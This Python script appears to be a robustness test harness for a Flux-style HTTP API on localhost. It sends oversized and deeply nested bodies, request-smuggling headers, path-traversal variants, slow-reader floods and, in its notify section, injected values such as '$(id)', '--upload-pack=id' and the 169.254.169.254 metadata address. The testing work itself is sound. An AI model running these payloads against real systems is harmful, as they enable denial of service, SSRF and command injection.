#!/usr/bin/env python3
"""Requests that a client should not make, for the attack scripts.

usage: requests.py PORT KIND [ARGUMENT...]

  bodies            bodies that are too large, too deep or no text
  smuggle           requests that two readers read differently
  paths             paths and methods that look like others
  causes            users and messages that are more than text
  notify            notifications that are not what they should be
  post N PATH BODY  N times the same, over eight connections
  get N PATH...     N requests for these in turn, over sixteen connections
  readers N PATH SECONDS  N clients, of eight addresses, that ask and take a
                    byte a second; says "asked N" when all are there, and in the
                    end how many were not served to the end

Prints a line for each: its name and the status of the answer, "closed" for
none; of many requests, how many had which status.
"""
import collections
import http.client
import json
import socket
import sys
import time

API = "/api/flux"
UPDATE = API + "/v9/update-manifests"
NOTIFY = API + "/v11/notify"


def raw(data, keep=False):
    """The status of the answer to these bytes, and all that was answered."""
    with socket.create_connection(("127.0.0.1", port), 60) as s:
        got = b""
        try:
            s.sendall(data)
            while not keep or b"\r\n\r\n" not in got:
                more = s.recv(65536)
                if not more:
                    break
                got += more
        except OSError:
            pass
    words = got.split(b" ", 2)
    return (words[1].decode() if len(words) > 2 else "closed"), got


def head(method, path, *lines):
    return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: x", *lines, "", ""]).encode()


def whole(method, path, body):
    return head(method, path, "Connection: close", f"Content-Length: {len(body)}") + body


def say(name, data):
    print(name, raw(data)[0], flush=True)


def bodies():
    say("1-GiB", head("POST", UPDATE, "Content-Length: 1073741824") + b"{")
    endless = head("POST", UPDATE, "Transfer-Encoding: chunked") + (b"10000\r\n" + b"x" * 65536 + b"\r\n") * 256
    say("endless", endless)
    sync = b'{"type":"sync","spec":{}'
    for name, body in (
        ("deep", b"[" * 1000000),
        ("deep-objects", b'{"a":' * 200000),
        ("keys", sync + b"".join(b',"k%d":1' % i for i in range(80000)) + b"}"),
        ("same-key", sync + b',"type":"sync"' * 70000 + b"}"),
        ("not-utf-8", b'{"type":"\xff\xfe","spec":{}}'),
        ("half-a-surrogate", b'{"type":"sync\\ud800","spec":{}}'),
        ("zero", b'{"type":"sync\\u0000","spec":{}}'),
        ("number", b"9" * 1000000),
    ):
        say(name, whole("POST", UPDATE, body))


def smuggle():
    second = head("GET", API + "/v11/version")
    post = f"POST {NOTIFY} HTTP/1.1\r\nHost: x\r\n".encode()
    for name, data in (
        ("length-and-chunks", post + b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
        ("two-lengths", post + b"Content-Length: 0\r\nContent-Length: 4\r\n\r\nnull"),
        ("folded", b"GET /x HTTP/1.1\r\nHost: x\r\nA: b\r\n c\r\n\r\n"),
        ("bare-line-feed", b"GET /x HTTP/1.1\r\nHost: x\nA: b\r\n\r\n"),
        ("absolute", f"GET http://x{API}/v11/version HTTP/1.1\r\nHost: x\r\n\r\n".encode()),
        ("upgrade", b"GET /x HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"),
        ("space-before-colon", b"GET /x HTTP/1.1\r\nHost : x\r\n\r\n"),
        ("no-host", b"GET /x HTTP/1.1\r\n\r\n"),
    ):
        status, got = raw(data + second)
        print(name, "read-on" if b" 200 " in got else status, flush=True)


def paths():
    for name, method, path in (
        ("escaped-slash", "GET", API + "%2fv11/version"),
        ("escaped-slash-in", "GET", API + "/v11%2Fversion"),
        ("dots", "GET", API + "/v6/../v11/version"),
        ("escaped-dots", "GET", API + "/v6/%2e%2e/v11/version"),
        ("double-slash", "GET", API + "//v11/version"),
        ("trailing-slash", "GET", API + "/v11/version/"),
        ("other-case", "GET", API + "/V11/version"),
        ("unknown-version", "GET", API + "/v99/services"),
        ("old-version", "GET", API + "/v3/services"),
        ("options", "OPTIONS", API + "/v11/version"),
        ("head", "HEAD", API + "/v11/version"),
        ("delete", "DELETE", API + "/v6/policies"),
        ("trace", "TRACE", API + "/v11/version"),
        ("parameter-in-path", "GET", API + "/v11/version;a=b"),
        ("profile", "GET", "/debug/pprof/"),
        ("root", "GET", "/"),
    ):
        say(name, head(method, path, "Connection: close"))


def causes():
    for name, user, message in (
        ("plain", "Ada <ada@example.org>", "one\ntwo"),
        ("line-feed", "a\nauthor x", ""),
        ("zero", "a", "b\0c"),
        ("escape", "a", "\x1b]0;x\x07"),
        ("long-user", "x" * 1000000, ""),
        ("long-message", "a", "x" * 1000000),
    ):
        body = json.dumps({"type": "sync", "cause": {"User": user, "Message": message}, "spec": {}})
        say(name, whole("POST", UPDATE, body.encode()))


def notify():
    for name, body in (
        ("empty", ""),
        ("null", "null"),
        ("list", "[]"),
        ("no-source", '{"Kind":"git"}'),
        ("null-source", '{"Kind":"git","Source":null}'),
        ("wrong-source", '{"Kind":"git","Source":[]}'),
        ("wrong-url", '{"Kind":"git","Source":{"URL":{}}}'),
        ("wrong-kind", '{"Kind":7,"Source":{}}'),
        ("unknown-kind", '{"Kind":"zz","Source":{}}'),
        ("image-as-text", '{"Kind":"image","Source":{"Name":"a/b"}}'),
        ("image", '{"Kind":"image","Source":{"Name":{"Domain":"169.254.169.254","Image":"x"}}}'),
        ("command", '{"Kind":"git","Source":{"URL":"$(id)","Branch":"--upload-pack=id"}}'),
        ("signed", '{"Kind":"git","Source":{"URL":"u"},"signature":"sha256=00"}'),
    ):
        say(name, whole("POST", NOTIFY, body.encode()))


def many(n, connections, requests):
    """n requests in turn, each connection with one on its way."""
    counts = collections.Counter()
    clients = [http.client.HTTPConnection("127.0.0.1", port, timeout=60) for _ in range(connections)]
    for at in range(0, n, connections):
        asked = []
        for k, c in enumerate(clients[:n - at]):
            method, path, body = requests[(at + k) % len(requests)]
            try:
                c.request(method, path, body)
                asked.append(c)
            except OSError:
                counts["closed"] += 1
                c.close()
        for c in asked:
            try:
                with c.getresponse() as answer:
                    answer.read()
                    counts[str(answer.status)] += 1
            except (OSError, http.client.HTTPException):
                counts["closed"] += 1
                c.close()
    print(" ".join(f"{k}:{v}" for k, v in sorted(counts.items())), flush=True)


def readers(n, path, seconds):
    held = []
    for i in range(n):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.settimeout(60)
        try:
            s.bind((f"127.0.1.{1 + i % 8}", 0))
            s.connect(("127.0.0.1", port))
            s.sendall(head("GET", path))
        except OSError:
            continue
        held.append(s)
    print("asked", len(held), flush=True)
    began, cut = time.monotonic(), set()
    while time.monotonic() - began < seconds:
        for i, s in enumerate(held):
            if i in cut:
                continue
            try:
                s.setblocking(False)
                if s.recv(1) == b"":
                    cut.add(i)
            except BlockingIOError:
                pass
            except OSError:
                cut.add(i)
        time.sleep(1)
    print("cut", len(cut), "of", len(held), flush=True)


port, kind, *args = int(sys.argv[1]), *sys.argv[2:]
if kind == "post":
    many(int(args[0]), 8, [("POST", args[1], args[2])])
elif kind == "get":
    many(int(args[0]), 16, [("GET", path, None) for path in args[1:]])
elif kind == "readers":
    readers(int(args[0]), args[1], float(args[2]))
else:
    {"bodies": bodies, "smuggle": smuggle, "paths": paths, "causes": causes, "notify": notify}[kind]()
